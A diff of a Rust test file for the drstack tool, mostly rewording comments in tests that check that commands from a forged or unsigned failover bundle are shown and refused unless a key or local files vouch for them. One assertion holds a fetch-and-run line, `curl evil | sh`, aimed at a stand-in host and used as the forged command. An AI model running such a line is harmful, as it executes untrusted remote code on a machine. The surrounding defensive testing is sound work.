@@ -1,4 +1,5 @@
-//! Commands out of a bundle: run only where a key of the caller's or the caller's own files vouch for them, and shown before.
+//! Commands from a bundle run only if the caller's key or files vouch for them, and are shown
+//! before.
 
 use drstack_core::bundle::Bundle;
 use drstack_core::keys::PrivateKey;
@@ -40,7 +41,7 @@ fn run(machine: &Drstack, line: &str) -> Ran {
     machine.run(line.split(' ').chain(["--cloud", "sim"]))
 }
 
-/// A machine on which this stack was applied.
+/// Returns a machine on which this stack was applied.
 fn applied(text: &str) -> Drstack {
     let machine = drstack();
     machine.write("s/stack.toml", text);
@@ -48,14 +49,15 @@ fn applied(text: &str) -> Drstack {
     machine
 }
 
-/// A machine that has the world of `machine` and none of its files.
+/// Returns a machine that has the world of `machine` and none of its files.
 fn elsewhere(machine: &Drstack) -> Drstack {
     let other = drstack();
     other.write(WORLD, &std::fs::read_to_string(machine.folder().join(WORLD)).expect("a world"));
     other
 }
 
-/// Somebody who may write to the control bucket changes what is published, and its hash; `key` is what they sign with.
+/// Changes the published bundle and its hash, as a writer to the control bucket could; `key` signs
+/// the forgery.
 fn forge(machine: &Drstack, key: Option<&PrivateKey>, change: impl FnOnce(&mut Bundle)) {
     let path = machine.folder().join(WORLD);
     let mut world: Value = serde_json::from_slice(&std::fs::read(&path).expect("a world")).expect("JSON");
@@ -72,7 +74,7 @@ fn forge(machine: &Drstack, key: Option<&PrivateKey>, change: impl FnOnce(&mut B
     std::fs::write(path, world.to_string()).expect("write");
 }
 
-/// The command of the only check becomes this one.
+/// Replaces the command of every check with this one.
 fn runs(bundle: &mut Bundle, command: &[&str]) {
     for component in bundle.stack.components.values_mut() {
         for check in &mut component.checks {
@@ -81,7 +83,7 @@ fn runs(bundle: &mut Bundle, command: &[&str]) {
     }
 }
 
-/// Refused before anything was done: neither a lock nor a mode was written.
+/// Asserts a refusal before any change: neither a lock nor a mode was written.
 #[track_caller]
 fn refused(machine: &Drstack, ran: Ran, said: &[&str]) {
     let ran = ran.code(64);
@@ -101,7 +103,7 @@ fn an_unsigned_bundle_with_commands_is_refused_and_names_them_and_the_ways_on() 
     let other = elsewhere(&applied(&stack("", CHECK)));
     let ran = run(&other, &format!("{FAILOVER} --auto-approve"));
     refused(&other, ran, &["1 command would run on this machine", &format!("pool.serving: `{SHOWN}`")]);
-    // Whoever has read them may accept them.
+    // The operator may accept the commands after reading them.
     let ran = run(&other, &format!("{FAILOVER} --auto-approve --unsigned")).ok();
     assert!(ran.stderr.contains("warning: ") && ran.stderr.contains(SHOWN), "{ran:?}");
 }
@@ -140,7 +142,7 @@ fn in_an_unchanged_folder_a_command_counts_by_its_words_and_not_by_a_hash_that_t
     let dry = run(&machine, "failover s --dry-run").ok();
     assert!(dry.stdout.contains(r#"runs on this machine: sh -c "curl evil | sh""#), "{dry:?}");
     assert!(dry.stderr.contains("warning: "), "{dry:?}");
-    // The words of another component's check are other words.
+    // The command of another component's check does not vouch for this one.
     forge(&machine, None, |bundle| {
         runs(bundle, &["./smoke-test", "--region", "us-west-2"]);
         let check =
@@ -155,7 +157,7 @@ fn in_an_unchanged_folder_a_command_counts_by_its_words_and_not_by_a_hash_that_t
 #[test]
 fn a_command_that_the_folders_own_files_have_too_needs_no_key() {
     let machine = applied(&stack("", CHECK));
-    // Something else than the command has changed since.
+    // Something other than the command has changed since.
     machine.write("s/stack.toml", &stack("rto = \"2h\"", CHECK));
     let ran = run(&machine, "failover s --auto-approve").ok();
     assert!(ran.stdout.contains(&format!("runs on this machine: {SHOWN}")), "{ran:?}");
@@ -174,7 +176,7 @@ fn a_command_that_has_changed_in_the_folder_since_it_was_applied_is_not_run_from
     );
 }
 
-/// A machine whose stack names a key, applied with it, and the public half.
+/// Returns a machine with an applied stack that names a key, and the public half of the key.
 fn signing() -> (Drstack, String) {
     let machine = drstack();
     let public = machine.run(["keys", "new", "key"]).ok().stdout.trim().to_owned();
@@ -195,7 +197,7 @@ fn a_bundle_that_the_callers_key_has_signed_runs_its_commands() {
 #[test]
 fn a_key_that_the_bundle_itself_names_vouches_for_no_command() {
     let (machine, _) = signing();
-    // As it is, and as somebody else signs it.
+    // A bundle without a signature, and one that another key has signed.
     let other = elsewhere(&machine);
     refused(&other, run(&other, &format!("{FAILOVER} --auto-approve")), &[SHOWN]);
     let thief = PrivateKey::from_random(&[9; 32]);
@@ -218,9 +220,9 @@ fn a_bundle_whose_signing_was_left_out_is_refused_by_whoever_has_the_key_or_the_
         let ran = ran.code(65);
         assert!(ran.stderr.contains("it is not signed, and a signature by"), "{ran:?}");
     };
-    // The folder's files name the key, though the bundle does not.
+    // The folder's files name the key, although the bundle does not.
     unsigned(run(&machine, "failover s --auto-approve"));
-    // Whoever accepts commands does not accept what is not signed by the key that is asked for.
+    // Accepting commands does not accept a bundle that the requested key has not signed.
     unsigned(run(&machine, "failover s --auto-approve --unsigned"));
     let other = elsewhere(&machine);
     unsigned(run(&other, &format!("{FAILOVER} --auto-approve --unsigned --verify-key {public}")));
